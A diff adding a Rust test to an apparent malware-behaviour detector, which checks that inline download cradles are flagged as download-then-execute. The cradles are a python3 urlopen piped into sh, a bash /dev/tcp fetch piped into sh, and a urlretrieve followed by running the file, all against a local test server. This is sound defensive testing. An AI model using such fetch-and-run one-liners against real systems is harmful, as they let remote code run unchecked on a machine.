@@ -1689,6 +1689,84 @@ fn scripts_that_pipe_downloaded_or_decoded_code_into_a_shell() {
     quiet("cat-local.sh", &format!("cat {local} | bash"));
 }
 
+/// Download cradles written as inline programs of an interpreter or a shell (`python3 -c
+/// '...urlopen...' | sh`, a bash `/dev/tcp` fetch piped into sh, python's `urlretrieve` then the
+/// file run), as lines of a script against a server on 127.0.0.1: the inline program is a
+/// downloader once it connects out. The same programs without a connect raise nothing.
+#[test]
+fn inline_programs_that_download_are_downloaders() {
+    if !privileged("inline_programs_that_download_are_downloaders") {
+        return;
+    }
+    let url = http_server();
+    let port = url.rsplit(':').next().expect("a port").to_owned();
+    let dir = Scratch::new("inline");
+    let script = |name: &str, body: &str| {
+        let path = dir.path(name);
+        std::fs::write(&path, format!("#!/bin/bash\n{body}\n")).expect("script");
+        run(Command::new("/bin/bash").arg(&path).current_dir(&dir.0))
+    };
+    let download = "behaviour-download-pipe-exec";
+    let piped = |name: &str, body: &str, writer: &str| {
+        let found = detect(script(name, body));
+        let f = of(&found, download);
+        assert_eq!(f.len(), 1, "{body}: {:?}", kinds(&found));
+        assert_eq!(f[0].severity_label, SeverityLabel::High, "{body}");
+        let w = &f[0].context.additional["pipeWriter"];
+        assert!(w.contains(writer), "{body}: writer {w}");
+    };
+    piped(
+        "py.sh",
+        &format!(
+            "python3 -c \"import urllib.request as u; print(u.urlopen('{url}/x.sh').read().decode())\" | sh"
+        ),
+        "python3",
+    );
+    piped(
+        "devtcp.sh",
+        &format!(
+            "bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}; printf \"GET /x.sh HTTP/1.0\\r\\n\\r\\n\" >&3; cat <&3' | sh"
+        ),
+        "bash",
+    );
+    let fetched = dir.path("fetched");
+    let found = detect(script(
+        "py-file.sh",
+        &format!(
+            "python3 -c \"import urllib.request as u; u.urlretrieve('{url}/true.bin', '{fetched}')\"\nchmod +x {fetched}\n{fetched}"
+        ),
+    ));
+    let f = of(&found, "behaviour-download-exec");
+    assert_eq!(f.len(), 1, "{:?}", kinds(&found));
+    assert!(f[0].context.additional["downloadedBy"].contains("python3"));
+    assert_eq!(f[0].context.file_path.as_deref(), Some(fetched.as_str()));
+
+    // Benign: the same programs with nothing fetched, a download nothing runs.
+    for (name, body) in [
+        (
+            "py-print.sh",
+            "python3 -c \"print('true')\" | sh".to_owned(),
+        ),
+        (
+            "py-grep.sh",
+            format!(
+                "python3 -c \"import urllib.request as u; print(u.urlopen('{url}/x.sh').read().decode())\" | grep -c true"
+            ),
+        ),
+        (
+            "py-module.sh",
+            "python3 -m json.tool <<<'{}' | sh -c cat".to_owned(),
+        ),
+    ] {
+        let found = detect(script(name, &body));
+        assert!(
+            of(&found, download).is_empty() && of(&found, "behaviour-download-exec").is_empty(),
+            "{body}: {:?}",
+            kinds(&found)
+        );
+    }
+}
+
 #[test]
 fn binaries_and_scripts_fetched_by_a_downloader_then_run() {
     if !privileged("binaries_and_scripts_fetched_by_a_downloader_then_run") {
